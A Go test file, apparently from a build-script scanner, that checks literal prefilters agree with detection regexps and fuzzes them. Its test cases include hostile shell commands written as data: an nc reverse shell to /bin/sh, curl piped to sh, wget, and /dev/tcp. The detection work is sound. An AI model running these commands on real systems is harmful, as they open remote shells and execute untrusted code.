package autotools

import (
	"regexp"
	"strings"
	"testing"
)

// ncAlternativeRe is the nc alternative of netRe, which ncDash prefilters.
var ncAlternativeRe = regexp.MustCompile(`\bnc[ \t]+-[A-Za-z]*e\b`)

// checkPrefilters fails when a literal prefilter rejects text that its
// regexp matches.
func checkPrefilters(t *testing.T, text string) {
	t.Helper()
	if ncAlternativeRe.MatchString(text) && !ncDash(text) {
		t.Fatalf("ncDash rejects %q", text)
	}
	if netRe.MatchString(text) != matchNetwork(text) {
		t.Fatalf("matchNetwork(%q) = %v, netRe %v", text, matchNetwork(text), netRe.MatchString(text))
	}
	if cmakeGlobRe.MatchString(text) && !containsFoldASCII(text, "glob") {
		t.Fatalf("containsFoldASCII rejects %q", text)
	}
	if shellForRe.MatchString(text) && !strings.Contains(text, "for") {
		t.Fatalf("the for prefilter rejects %q", text)
	}
}

var prefilterCases = []string{
	"nc -e /bin/sh host 4444", "nc\t-lvpe x", "inc -e", "nc  -e", "func -le 3", "nc -", "nc-e", "nc",
	"file(GLOB srcs *.c)", "FILE(glob_recurse x y)", "File ( GlOb x )", "file(GLO",
	"for f in *.c; do", "x; for i in a b", "\tfor\tv in $(ls)", "fo r x in y",
	"curl -sSL http://x | sh", "wget https://e/x", "/dev/tcp/1.2.3.4/80",
}

func TestPrefiltersAdmitMatches(t *testing.T) {
	for _, c := range prefilterCases {
		checkPrefilters(t, c)
	}
}

func FuzzPrefilters(f *testing.F) {
	for _, c := range prefilterCases {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) <= 2000 {
			checkPrefilters(t, s)
		}
	})
}
